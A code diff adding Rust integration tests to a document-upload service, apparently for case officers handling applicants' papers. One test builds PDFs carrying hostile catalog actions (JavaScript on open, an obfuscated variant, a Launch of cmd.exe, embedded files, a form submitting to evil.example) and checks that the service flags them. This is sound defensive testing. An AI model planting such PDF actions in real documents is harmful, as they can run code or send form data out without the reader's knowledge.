@@ -271,6 +271,129 @@ async fn a_page_that_cannot_be_drawn_is_not_passed_over() {
     assert!(archive.windows(27).any(|window| window == b"This page could not be draw"));
 }
 
+/// What is hard to draw holds nobody up for long: the pages for which there is no time are named in the archive.
+#[tokio::test]
+async fn an_archive_has_an_end() {
+    let asked = Asked::with(&[("ARCHIVE_SECONDS", "0")]).await;
+    let id = asked.send("long.pdf", &papers::pdf(&["x"; 200])).await;
+    assert_eq!(asked.checked(&id).await["pages"], 200);
+    let archive = format!("/api/desk/cases/{}/documents.zip", asked.person.case);
+    let archive = asked.officer().await.request(Method::GET, &archive).send().await.unwrap().bytes().await.unwrap();
+    assert_eq!(names_in(&archive), ["01 long 1-200.txt"]);
+    assert!(archive.windows(17).any(|window| window == b"There was no time"));
+}
+
+/// A document that only ever runs out of time is broken, and not looked into for ever.
+#[tokio::test]
+async fn what_runs_out_of_time_five_times_is_broken() {
+    let settings = [("CHECK_SECONDS", "1")];
+    let asked = Asked::with(&settings).await;
+    // It takes long to find that nothing is in it.
+    let hard = [b"%PDF-1.4\n".as_slice(), &b"1 0 obj <<".repeat(1_900_000), b"%%EOF"].concat();
+    let id = asked.send("pass.pdf", &hard).await;
+    wait_for(async || asked.number("SELECT overran FROM documents").await == 1, "it runs out of time once").await;
+    assert_eq!(asked.document(&asked.asha(), &id).await["state"], "received", "a busy machine may be why");
+    asked.counter.kill().await;
+    let mut t = asked.records.store().write().await.unwrap();
+    sqlx::query("UPDATE documents SET overran = 4, due = 0, leased_until = 0").execute(&mut *t).await.unwrap();
+    t.commit().await.unwrap();
+    let asked = Asked { counter: asked.records.open_with(MONDAY, &settings).await, ..asked };
+    let document = asked.checked(&id).await;
+    assert_eq!((&document["state"], &document["fault"]), (&json!("returned"), &json!("broken")));
+    wait_for(async || asked.mail("could not use").is_some(), "Asha is told").await;
+}
+
+/// An officer knows before they open an original that it does something, and so does who takes all of them.
+#[tokio::test]
+async fn what_does_something_when_it_is_opened_is_said() {
+    let asked = Asked::with(&[("CLAMD", &clamd().await)]).await;
+    let officer = asked.officer().await;
+    for (number, (catalog, expected)) in [
+        ("", json!([])),
+        // A page to begin with is no action.
+        ("/OpenAction[4 0 R/Fit]", json!([])),
+        ("/OpenAction<</S/JavaScript/JS(app.alert(1))>>", json!(["script"])),
+        // The same, written so that nobody finds it by looking for the word.
+        ("/AA<</WC<</S/J#61vaScript/#4AS(app.alert(1))>>>>", json!(["script"])),
+        ("/OpenAction<</S/L#61unch/F(cmd.exe)>>", json!(["program"])),
+        ("/Names<</EmbeddedFiles<</Names[(a)<</EF<<>>>>]>>>>", json!(["files"])),
+        ("/AcroForm<</XFA[]/Fields[<</A<</S/SubmitForm/F(https://evil.example)>>>>]>>", json!(["script", "address"])),
+        ("/OpenAction<</S/Rendition>>", json!(["media"])),
+    ]
+    .into_iter()
+    .enumerate()
+    {
+        let id = asked.send(&format!("form {number}.pdf"), &papers::active_pdf(catalog)).await;
+        assert_eq!(asked.checked(&id).await["state"], "checked", "{catalog}");
+        let seen = officer.get(&format!("/api/desk/documents/{id}")).await;
+        assert_eq!(seen.body["document"]["active"], expected, "{catalog}");
+    }
+    let archive = format!("/api/desk/cases/{}/documents.zip", asked.person.case);
+    let archive = officer.request(Method::GET, &archive).send().await.unwrap().bytes().await.unwrap();
+    let names = names_in(&archive);
+    assert_eq!(names[1..4], ["02 form 1.pdf", "03 form 2.pdf", "03 form 2 ADVARSEL WARNING.txt"]);
+    assert_eq!(names.iter().filter(|name| name.ends_with("WARNING.txt")).count(), 6);
+}
+
+/// Whoever has a slow line may take longer over a document than a connection may be idle.
+#[tokio::test]
+async fn a_slow_upload_is_not_cut() {
+    let asked = Asked::with(&[("HEAD_SECONDS", "1"), ("IDLE_SECONDS", "1")]).await;
+    let bytes = papers::pdf(&["x"]);
+    let upload = asked.begin("pass.pdf", bytes.len() as u64).await;
+    let (piece, pieces) = mpsc::channel(1);
+    let sending = patching(&asked.asha(), &upload, 0).body(body_of(pieces)).send();
+    let sending = tokio::spawn(sending);
+    let (first, rest) = bytes.split_at(100);
+    piece.send(Ok(Bytes::copy_from_slice(first))).await.unwrap();
+    for _ in 0..2 {
+        // As long as an idle connection lasts.
+        let address = asked.counter.url.strip_prefix("http://").unwrap();
+        let mut idle = tokio::net::TcpStream::connect(address).await.unwrap();
+        assert_eq!(idle.read(&mut [0; 1]).await.unwrap_or(0), 0);
+    }
+    piece.send(Ok(Bytes::copy_from_slice(rest))).await.unwrap();
+    drop(piece);
+    assert_eq!(sending.await.unwrap().unwrap().status(), StatusCode::NO_CONTENT);
+    let id = upload.rsplit('/').next().unwrap();
+    assert_eq!(asked.checked(id).await["state"], "checked");
+}
+
+/// Keys of cases move to the new key of the house, and the old one can be thrown away.
+#[tokio::test]
+async fn an_old_key_can_be_retired() {
+    let old = DOCUMENTS_KEY.to_owned();
+    let new = String::from_utf8(std::process::Command::new(binary()).arg("documents-key").output().unwrap().stdout);
+    let new = new.unwrap().trim().to_owned();
+    let both = format!("{new}\n{old}");
+    let asked = Asked::with(&[("DOCUMENTS_KEY", &old)]).await;
+    let id = asked.send("pass.pdf", &papers::pdf(&["Passport"])).await;
+    assert_eq!(asked.checked(&id).await["state"], "checked");
+    asked.counter.kill().await;
+    let rewrap = |keys: &str| {
+        let mut command = std::process::Command::new(binary());
+        command.args(["documents-key", "--rewrap", "--data-dir"]).arg(asked.records.folder());
+        command.env("DOCUMENTS_KEY", keys).env("DATABASE_URL", asked.records.url().unwrap_or_default());
+        let output = command.output().unwrap();
+        String::from_utf8([output.stdout, output.stderr].concat()).unwrap()
+    };
+    assert!(rewrap(&new).contains("encrypted for another house"));
+    assert!(rewrap(&both).starts_with("1 of 1 keys"), "the old key opens it, the new one closes it");
+    assert!(rewrap(&both).starts_with("0 of 1 keys"), "once is enough");
+    let counter = asked.records.open_with(MONDAY, &[("DOCUMENTS_KEY", &new)]).await;
+    let asked = Asked { counter, ..asked };
+    let page = asked.officer().await.request(Method::GET, &format!("/api/desk/documents/{id}/pages/1"));
+    assert_eq!(page.send().await.unwrap().status(), StatusCode::OK);
+}
+
+/// What looks into documents can do nothing else, whatever a document makes of it.
+#[test]
+fn the_program_that_looks_into_documents_has_no_open_door() {
+    let probed = std::process::Command::new(binary()).arg("probe").output().unwrap();
+    let probed: Value = serde_json::from_slice(&probed.stdout).unwrap();
+    assert_eq!(probed, json!({ "fault": null, "open": [] }));
+}
+
 /// The names in a ZIP archive, from its directory.
 fn names_in(archive: &[u8]) -> Vec<String> {
     let mark = b"PK\x01\x02";
@@ -505,6 +628,7 @@ async fn what_the_check_finds_is_told_and_deleted() {
         ),
         ("enormous.png", papers::enormous_png(), "picture-too-large"),
         ("two pages.tif", papers::tiff_of_two_pages(), "several-pages"),
+        ("long.pdf", papers::pdf(&["x"; 201]), "too-many-pages"),
         ("bomb.pdf", papers::bomb(), "broken"),
         ("virus.pdf", papers::pdf(&[&papers::eicar()]), "infected"),
         ("virus.jpg", papers::commented(&papers::eicar()), "infected"),
@@ -712,7 +836,8 @@ async fn a_lost_key_keeps_the_counter_shut() {
 #[tokio::test]
 async fn any_client_of_the_protocol_sends() {
     let asked = Asked::new().await;
-    let bytes = papers::pdf(&["A long paper"; 2000]);
+    let text = "A long paper ".repeat(200);
+    let bytes = papers::pdf(&[&*text; 200]);
     let file = asked.records.folder().join("long.pdf");
     std::fs::write(&file, &bytes).unwrap();
     let run = async |how: &str| {
@@ -733,7 +858,7 @@ async fn any_client_of_the_protocol_sends() {
         assert_eq!(said["requests"], json!(expected), "{how}: {said}");
         let id = said["address"].as_str().unwrap().rsplit('/').next().unwrap();
         let document = asked.checked(id).await;
-        assert_eq!((&document["state"], &document["pages"]), (&json!("checked"), &json!(2000)), "{document}");
+        assert_eq!((&document["state"], &document["pages"]), (&json!("checked"), &json!(200)), "{document}");
         assert_eq!(document["name"], "lang søknad.pdf");
     }
     // Whoever sends some of it with the first request is told that nothing of it is there, and there is one document.
